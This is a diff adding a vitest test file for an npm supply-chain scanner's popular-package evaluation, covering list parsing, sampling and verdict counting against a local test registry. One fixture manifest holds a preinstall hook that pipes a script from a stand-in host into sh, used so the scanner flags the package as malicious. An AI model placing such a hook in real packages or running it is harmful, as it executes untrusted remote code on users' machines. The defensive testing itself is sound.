@@ -1,0 +1,111 @@
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { choosePopular, main, readPopular } from '../../src/eval/popular.js';
+import { benignPackageFiles, makeTarball, maliciousPackageFiles } from '../helpers/archives.js';
+import { startRegistry, type TestRegistry } from '../helpers/registry.js';
+
+const tmp = mkdtempSync(path.join(os.tmpdir(), 'beagle-popular-'));
+
+describe('popular list', () => {
+  it('reads name/downloads lines in rank order, skipping the header', () => {
+    const file = path.join(tmp, 'list.tsv');
+    writeFileSync(file, 'name\tdownloads_a_month\nsemver\t100\n@types/node\t90\n\nchalk\t80\n');
+    expect(readPopular(file)).toEqual([
+      { name: 'semver', downloads: 100, rank: 1 },
+      { name: '@types/node', downloads: 90, rank: 2 },
+      { name: 'chalk', downloads: 80, rank: 3 },
+    ]);
+  });
+
+  it('takes the top N plus an evenly strided sample of the ranks after them', () => {
+    const list = Array.from({ length: 100 }, (_, i) => ({
+      name: `p${i + 1}`,
+      downloads: 100 - i,
+      rank: i + 1,
+    }));
+    const chosen = choosePopular(list, { top: 10, sample: 5, sampleFrom: 60 });
+    expect(chosen.map((e) => e.rank)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 21, 31, 41, 51]);
+    // the same arguments choose the same packages (reruns are comparable)
+    expect(choosePopular(list, { top: 10, sample: 5, sampleFrom: 60 })).toEqual(chosen);
+    // an offset draws a disjoint sample (held out from the names a fix was tuned on)
+    const held = choosePopular(list, { top: 10, sample: 5, sampleFrom: 60, offset: 3 });
+    expect(held.slice(10).map((e) => e.rank)).toEqual([14, 24, 34, 44, 54]);
+    expect(choosePopular(list, { top: 3, sample: 0, sampleFrom: 60 }).map((e) => e.name)).toEqual([
+      'p1',
+      'p2',
+      'p3',
+    ]);
+  });
+});
+
+describe('npm run eval:popular against a registry', () => {
+  let reg: TestRegistry;
+  beforeAll(async () => {
+    reg = await startRegistry([
+      {
+        name: 'fixture-a',
+        version: '1.0.0',
+        tarball: await makeTarball(benignPackageFiles('fixture-a', '1.0.0')),
+      },
+      {
+        name: 'fixture-dropper',
+        version: '6.6.6',
+        tarball: await makeTarball(maliciousPackageFiles('fixture-dropper', '6.6.6')),
+        manifest: { scripts: { preinstall: 'curl -s http://192.0.2.1/x.sh | sh' } },
+      },
+    ]);
+  });
+  afterAll(() => reg.close());
+
+  it('scans the chosen packages, counts verdicts, and never counts a failed fetch as clean', async () => {
+    const list = path.join(tmp, 'popular.tsv');
+    writeFileSync(
+      list,
+      'name\tdownloads_a_month\nfixture-a\t300\nfixture-dropper\t200\nfixture-missing\t100\n',
+    );
+    const json = path.join(tmp, 'out.json');
+    const log = vi.spyOn(console, 'log').mockImplementation(() => {});
+    let code: number;
+    let printed: string;
+    try {
+      code = await main([
+        '--list',
+        list,
+        '--top',
+        '3',
+        '--registry',
+        reg.url,
+        '--concurrency',
+        '1',
+        '--json',
+        json,
+      ]);
+      printed = log.mock.calls.map((c) => String(c[0])).join('\n');
+    } finally {
+      log.mockRestore();
+    }
+    expect(code).toBe(2);
+    const out = JSON.parse(readFileSync(json, 'utf8'));
+    expect(out.summary).toMatchObject({ scanned: 2, errors: 1, clean: 1, malicious: 1, suspicious: 0 });
+    expect(out.summary.maliciousRate).toBe(0.5);
+    const byName = Object.fromEntries(out.packages.map((p: { name: string }) => [p.name, p]));
+    expect(byName['fixture-a']).toMatchObject({ verdict: 'clean', version: '1.0.0', rank: 1 });
+    expect(byName['fixture-dropper'].verdict).toBe('malicious');
+    expect(byName['fixture-missing'].verdict).toBe('error');
+    expect(printed).toMatch(/\| 3 \| 2 \| 1 \| 1 \| 0 \| 1 \| 50\.0% \| 50\.0% \|/);
+    expect(printed).toMatch(/- malicious \d+ #2 fixture-dropper@6\.6\.6: .*NPM-/);
+    expect(printed).toMatch(/- error #3 fixture-missing: .*fixture-missing/);
+  });
+
+  it('skips with a message when the list is absent', async () => {
+    const log = vi.spyOn(console, 'log').mockImplementation(() => {});
+    try {
+      expect(await main(['--list', path.join(tmp, 'nope.tsv')])).toBe(0);
+      expect(String(log.mock.calls[0]?.[0])).toMatch(/skipped, no popular-package list/);
+    } finally {
+      log.mockRestore();
+    }
+  });
+});
